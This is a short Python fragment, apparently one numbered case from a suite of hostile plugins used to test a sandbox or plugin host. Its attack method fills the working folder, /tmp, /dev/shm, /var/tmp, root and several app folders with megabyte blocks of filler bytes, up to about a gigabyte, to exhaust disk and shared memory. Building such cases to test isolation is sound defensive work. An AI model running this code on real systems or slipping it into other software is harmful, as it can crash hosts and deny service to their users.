class Plugin(HostileTool):
    """C40: fills every folder it can find (here: at most a gigabyte)."""

    async def attack(self, arguments, ctx):
        written = {}
        folders = (".", "/tmp", "/dev/shm", "/var/tmp", "/", "/inbox", "/plugin", "/library")
        for folder in dict.fromkeys(map(os.path.realpath, folders)):
            for number in range(64):
                try:
                    with open(f"{folder}/fill-{number}", "wb", buffering=0) as file:
                        for _ in range(16):
                            written[folder] = written.get(folder, 0) + file.write(b"x" * 1_000_000)
                except OSError:
                    break
        return written
